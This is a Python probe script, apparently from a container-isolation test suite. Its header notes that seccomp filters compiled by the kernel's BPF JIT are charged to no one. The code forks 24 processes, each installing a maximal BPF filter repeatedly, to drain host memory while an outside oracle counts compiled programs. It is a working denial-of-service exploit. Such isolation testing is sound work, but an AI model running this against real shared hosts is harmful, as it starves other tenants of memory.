# guest: installs filters of its own, which the kernel compiles into memory that nobody is charged for
# source: bpf_jit_limit in the kernel's Documentation/admin-guide/sysctl/net.rst
# attacks: the host's memory; the room that new boxes need for their own filters
# walls: none
# open: a filter of one's own is allowed, and the kernel charges what it compiles to nobody. Processes bound how
#   many a box can have: some 20 MiB at 128 processes, of the 500 MiB that the host has for all.
# observer: programs_compiled
# oracle: the kernel's compiled programs, counted from outside, grew by megabytes
# status: ok
# credit: filter
import ctypes
import os
import signal
import struct
import time

from attack import call, hold, tell

ADD, KEEP = struct.pack("HBBI", 0x04, 0, 0, 0x12345), struct.pack("HBBI", 0x06, 0, 0, 0x7FFF0000)
code = ctypes.create_string_buffer(ADD * 4094 + KEEP)
program = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", 4095, ctypes.addressof(code)))
children = []
for _ in range(24):
    pid = os.fork()
    if pid == 0:
        for _ in range(6):
            answer = call("seccomp", 1, 0, program)[1]
        if not children:
            tell("filter", answer)
        signal.pause()
    children.append(pid)
tell("prctl", call("prctl", 22, 2, program, 0, 0)[1])
time.sleep(0.3)
hold("installed")
for pid in children:
    os.kill(pid, signal.SIGKILL)
